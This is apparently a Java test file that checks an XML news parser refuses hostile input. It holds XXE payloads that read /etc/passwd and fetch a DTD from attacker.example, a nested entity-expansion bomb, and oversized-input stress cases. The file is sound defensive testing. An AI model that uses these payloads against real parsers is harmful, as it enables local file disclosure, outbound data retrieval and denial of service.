/* Licensed under the Apache License, Version 2.0: see LICENSE. */
package io.barq.enrich.format;

import static java.time.Duration.ofSeconds;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import io.barq.enrich.ledger.RefusedException;
import java.util.List;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class HostileXmlTest {

    private static final String NITF =
            "<nitf><body><body.head><hedline><hl1>Tide &amp; wind</hl1></hedline></body.head>"
                    + "<body.content><p>Low water<![CDATA[ & <high>]]> at&nbsp;noon.</p></body.content></body></nitf>";
    private static final String MESSAGE =
            "<newsMessage><itemSet><newsItem guid='a'><contentMeta><headline>One</headline>"
                    + "</contentMeta></newsItem><newsItem guid='b'><contentSet><inlineXML>" + NITF
                    + "</inlineXML></contentSet></newsItem></itemSet></newsMessage>";
    private static final String NEWSML =
            "<NewsML><NewsItem><NewsComponent><NewsLines><HeadLine>One</HeadLine></NewsLines>"
                    + "<ContentItem><DataContent><p>Two</p></DataContent></ContentItem></NewsComponent></NewsItem></NewsML>";

    @Test
    void shouldRefuseADocumentTypeThatDeclaresEntities() {
        refused("<!DOCTYPE nitf [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><nitf>&x;</nitf>", "declares entities");
        refused(
                "<!DOCTYPE nitf [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;'>]><nitf>&c;</nitf>",
                "declares entities");
        refused(
                "<!DOCTYPE nitf [<!ENTITY % p SYSTEM 'http://attacker.example/x.dtd'>%p;]><nitf/>",
                "declares entities");
    }

    @Test
    void shouldRefuseElementsNestedTooDeep() {
        refused("<nitf>" + "<block>".repeat(200_000), "nests elements deeper than");
    }

    @Test
    void shouldRefuseAnElementWithTooManyAttributes() {
        StringBuilder attributes = new StringBuilder();
        for (int i = 0; i < 100_000; i++) {
            attributes.append(" a").append(i).append("='1'");
        }
        refused("<nitf><head" + attributes + "/></nitf>", "has more than 256 attributes");
    }

    @Test
    void shouldRefuseAnAttributeThatIsTooLong() {
        refused("<nitf a='" + "x".repeat(1_000_000) + "'/>", "longer than");
    }

    @Test
    void shouldReadAMegabyteOfTextInTime() {
        String text = "<p>" + "word ".repeat(200_000) + "</p>";
        ParsedItem item = assertTimeoutPreemptively(
                ofSeconds(5),
                () -> Parsing.item("<nitf><body><body.content>" + text + "</body.content></body></nitf>"));
        assertThat(item.body()).hasSize(999_999);
    }

    @Test
    void shouldReadWhatNoXmlMayHold() {
        ParsedItem item = Parsing.item(
                "<nitf><body><body.head><hedline><hl1>Fish & Chips&nbsp;&mdash; &unknown; &#1;x\u0002y</hl1>"
                        + "</hedline></body.head><body.content><p>a<![CDATA[\u0003b]]></p></body.content></body></nitf>");
        assertThat(item.headline()).hasValue("Fish & Chips — &unknown; x y");
        assertThat(item.body()).isEqualTo("a b");
    }

    @ParameterizedTest
    @ValueSource(strings = {NITF, MESSAGE, NEWSML})
    void shouldGiveItemsOrAReasonWhereverADocumentIsCut(String document) {
        for (int length = 1; length < document.length(); length++) {
            check(document.substring(0, length));
        }
        assertThat(check(document)).isNotEmpty().allMatch(ParsedItem.class::isInstance);
    }

    @Property(tries = 300)
    void shouldGiveItemsOrAReasonWhateverIsChanged(@ForAll int place, @ForAll char c, @ForAll boolean inserted) {
        int at = Math.floorMod(place, MESSAGE.length());
        check(MESSAGE.substring(0, at) + c + MESSAGE.substring(inserted ? at : at + 1));
    }

    @Property(tries = 200)
    void shouldKeepAnyTextThatStandsInAMarkedSection(@ForAll String text) {
        String words = text.replace("]]>", "").replaceAll("\\p{C}", "");
        ParsedItem item = Parsing.item("<nitf><head><title>x</title></head><body><body.head><hedline><hl1>h<![CDATA["
                + words + "]]></hl1></hedline></body.head></body></nitf>");
        assertThat(item.headline()).hasValue(new Line(0, "h" + words).clean());
    }

    private static List<Part> check(String text) {
        try {
            List<Part> parts = Parsing.parse(Parsing.payload(text)).parts();
            assertThat(parts).isNotEmpty();
            return parts;
        } catch (RefusedException e) {
            assertThat(e.getMessage()).isNotBlank();
            return List.of();
        }
    }

    private static void refused(String text, String reason) {
        assertTimeoutPreemptively(
                ofSeconds(5),
                () -> assertThatThrownBy(() -> Parsing.parse(Parsing.payload(text)))
                        .isInstanceOf(RefusedException.class)
                        .hasMessageContaining(reason));
    }
}
